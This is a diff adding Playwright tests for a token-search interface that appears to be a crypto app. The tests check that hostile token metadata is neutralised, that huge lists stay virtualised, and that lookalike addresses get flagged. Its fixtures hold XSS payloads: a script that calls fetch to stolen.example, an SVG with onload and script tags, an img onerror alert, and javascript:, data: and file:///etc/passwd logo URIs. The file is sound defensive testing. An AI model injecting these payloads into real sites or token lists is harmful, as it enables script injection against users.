@@ -1,0 +1,137 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './app'
+
+const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'
+const addressAt = (at: number) => `0x${(at + 1).toString(16).padStart(40, '0')}`
+const field = (page: Page) => page.getByRole('combobox', { name: 'Search tokens' })
+const options = (page: Page) => page.getByRole('search').getByRole('option')
+
+async function serveTokens(page: Page, tokens: readonly object[]) {
+  const list = tokens.map((token, at) => ({ chainId: 1, address: addressAt(at), ...token }))
+  await page.route('**/lists/tokens.json', (route) => route.fulfill({ json: { tokens: list } }))
+}
+
+const SCRIPT = 'document.title = "pwned"; fetch("https://stolen.example")'
+const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload='${SCRIPT}'><script>${SCRIPT}</script></svg>`
+
+test('L18, L19: markup in a symbol or a name is text, and no text changes the height of a row', async ({ page }) => {
+  const texts = [
+    '<b>MEME</b>',
+    '</script>MEME',
+    '{{7*7}}MEME',
+    '${7*7}MEME',
+    'MEME\n\n\nMEME',
+    `MEME${'\u0301'.repeat(40)}`,
+    'M'.repeat(1_000) + 'EME',
+    '<img src=x onerror=alert(1)>MEME',
+  ]
+  await serveTokens(
+    page,
+    texts.map((symbol) => ({ symbol, name: `${symbol}<script>${SCRIPT}</script>` })),
+  )
+  await page.goto('/')
+  await field(page).fill('0x')
+  await expect(options(page)).toHaveCount(texts.length)
+  await expect(options(page).nth(0)).toContainText('<b>MEME</b>')
+  await expect(options(page).nth(1)).toContainText('</script>MEME')
+  await expect(options(page).nth(2)).toContainText('{{7*7}}MEME')
+  await expect(options(page).nth(3)).toContainText('${7*7}MEME')
+  await expect(options(page).locator('script, img')).toHaveCount(0)
+  for (const option of await options(page).all()) {
+    const box = await option.boundingBox()
+    expect(box?.height).toBe(56)
+    expect(await option.evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)).toBeLessThanOrEqual(0)
+  }
+  await expect(page).not.toHaveTitle('pwned')
+})
+
+test.describe('logos', () => {
+  // A picture that is not there, and one that is none.
+  test.use({ expectedErrors: /404|Failed to load resource/ })
+
+  test('L20, L21, L22: only pictures are asked for, none runs a script, none leaves its box', async ({ page }) => {
+    const logos: [symbol: string, logoURI: string, isShown: boolean][] = [
+      ['MEME0', `javascript:${SCRIPT}`, false],
+      ['MEME1', `data:text/html,<script>${SCRIPT}</script>`, false],
+      ['MEME2', 'file:///etc/passwd', false],
+      ['MEME3', 'blob:https://logos.example/1', false],
+      ['MEME4', '//logos.example/none.png', false],
+      ['MEME5', 'http://logos.example/plain.png', false],
+      ['MEME6', `https://logos.example/${'x'.repeat(200_000)}`, false],
+      ['MEME7', `data:image/svg+xml,${encodeURIComponent(SVG)}`, true],
+      ['MEME8', 'https://logos.example/script.svg', true],
+      ['MEME9', 'ipfs://QmCid/logo.png', true],
+      ['MEME10', 'https://logos.example/missing.png', false],
+      ['MEME11', 'https://logos.example/heavy.png', false],
+      ['MEME12', 'https://logos.example/tall.svg', true],
+    ]
+    const asked: string[] = []
+    await page.context().route(/^https?:\/\/(logos\.example|stolen\.example|ipfs\.io)\//, async (route) => {
+      const url = route.request().url()
+      asked.push(url)
+      expect(route.request().headers().referer).toBeUndefined()
+      if (url.endsWith('missing.png')) return route.fulfill({ status: 404 })
+      if (url.endsWith('heavy.png')) return route.fulfill({ contentType: 'image/png', body: Buffer.alloc(20_000_000) })
+      const [width, height] = url.endsWith('tall.svg') ? [1, 100_000] : [8, 8]
+      const body = SVG.replace('width="8" height="8"', `width="${width}" height="${height}"`)
+      return route.fulfill({ contentType: 'image/svg+xml', body })
+    })
+    await serveTokens(
+      page,
+      logos.map(([symbol, logoURI]) => ({ symbol, logoURI })),
+    )
+    await page.goto('/')
+    await field(page).fill('meme')
+    await expect(options(page)).toHaveCount(logos.length)
+    for (const [at, [symbol, , isShown]] of logos.entries()) {
+      const option = options(page).nth(at)
+      await option.scrollIntoViewIfNeeded()
+      await expect(option.locator('img'), symbol).toHaveCount(isShown ? 1 : 0)
+      if (isShown) await expect(option.locator('img')).toHaveJSProperty('complete', true)
+      expect(await option.locator('[aria-hidden=true]').first().boundingBox()).toMatchObject({ width: 36, height: 36 })
+      expect((await option.boundingBox())?.height).toBe(56)
+    }
+    expect([...new Set(asked)].sort()).toEqual([
+      'https://ipfs.io/ipfs/QmCid/logo.png',
+      'https://logos.example/heavy.png',
+      'https://logos.example/missing.png',
+      'https://logos.example/script.svg',
+      'https://logos.example/tall.svg',
+    ])
+    await expect(page).not.toHaveTitle('pwned')
+  })
+})
+
+test('L10: of the longest list few rows are in the document, and its last token is found', async ({ page }) => {
+  await serveTokens(
+    page,
+    Array.from({ length: 100_000 }, (_, at) => ({ symbol: `TKN${at}`, name: `Token ${at}` })),
+  )
+  await page.goto('/')
+  await field(page).pressSequentially('tkn')
+  await expect(options(page).first()).toHaveAttribute('aria-setsize', '100000')
+  expect(await options(page).count()).toBeLessThanOrEqual(100)
+  await field(page).press('End')
+  const last = options(page).filter({ hasText: 'Token 99999' })
+  await expect(last).toBeInViewport()
+  await expect(last).toHaveAttribute('aria-selected', 'true')
+  expect(await options(page).count()).toBeLessThanOrEqual(100)
+  await field(page).pressSequentially('99998')
+  await expect(options(page)).toHaveCount(1)
+  await expect(page.getByRole('search').getByText('1 token found')).toBeAttached()
+})
+
+test('L24: a forged address is told from the listed one, and its page can still be opened with the keyboard', async ({
+  page,
+}) => {
+  await page.goto('/')
+  const forged = `0xa0${'1'.repeat(34)}eb48`
+  await field(page).fill(forged)
+  const search = page.getByRole('search')
+  await expect(search.getByText('This is not the address of USDC')).toBeVisible()
+  await expect(search).toContainText(USDC)
+  await expect(search).toContainText(new RegExp(`You pasted ${forged}`, 'i'))
+  await field(page).press('Enter')
+  await expect(page).toHaveURL(new RegExp(`/token\\?address=${forged}$`, 'i'))
+  await expect(field(page)).toHaveValue('')
+})
